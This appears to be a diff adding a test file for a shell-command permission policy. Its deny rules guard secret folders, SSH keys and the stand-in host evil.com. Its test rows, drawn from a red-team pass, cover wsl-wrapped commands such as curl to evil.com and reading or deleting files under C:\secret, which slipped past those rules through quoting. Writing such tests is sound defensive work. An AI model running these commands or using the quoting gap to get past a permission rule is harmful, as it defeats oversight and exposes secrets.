@@ -1,0 +1,30 @@
+// PowerShell lines a red-team pass found allowed beside the deny rules they meet (session 27):
+// each row's line reads, writes or deletes C:\secret or ~\.ssh, or reaches evil.com. Rows are
+// also checked against the reference evaluator; ordinary lines stay allowed.
+import { describe, it } from 'vitest';
+import type { DecisionKind } from '../src/policy/types.js';
+import { expectDecision, REPO_WINDOWS, type Rules } from './helpers/policy.js';
+
+const RULES: Rules = {
+  deny: ['Shell(Remove-Item C:\\secret *)', 'Read(//c/secret/**)', 'Edit(//c/secret/**)', 'Read(//c/Users/dev/.ssh/**)', 'Domain(evil.com)'],
+  allow: ['Shell(*)', 'Read(//c/w/**)', 'Edit(//c/w/**)', 'Domain(ok.com)'],
+};
+
+function rows(list: [line: string, expected: DecisionKind][]): void {
+  it.each(list)('%s -> %s', (line, expected) => {
+    expectDecision(RULES, 'pwsh', line, expected, REPO_WINDOWS);
+  });
+}
+
+// wsl hands the rest of its command line to the distribution's shell as the caller quoted it:
+// PowerShell puts a word with white space in double quotes, so `wsl bash -c 'curl x'` runs
+// `bash -c "curl x"` (read as `bash -c curl x`, it ran nothing); after `--` too (was read as -e).
+describe('wsl: its line as the Windows command line quotes it (were allowed)', () => {
+  rows([
+    ["wsl bash -c 'curl evil.com'", 'deny'], ["wsl -d Ubuntu bash -c 'curl evil.com'", 'deny'],
+    ["wsl sh -c 'cat /mnt/c/secret/x'", 'ask'], ["wsl bash -c 'rm /mnt/c/secret/x'", 'ask'],
+    ["wsl -- echo '$(curl evil.com)'", 'deny'], ["wsl -- bash -c 'curl evil.com'", 'deny'], ['wsl --', 'ask'],
+    // Precision: a quoted word is one word of the shell's line.
+    ["wsl echo 'a; curl evil.com'", 'allow'], ["wsl bash -c 'npm test'", 'allow'], ['wsl -- npm test', 'allow'], ['wsl ls -la', 'allow'],
+  ]);
+});
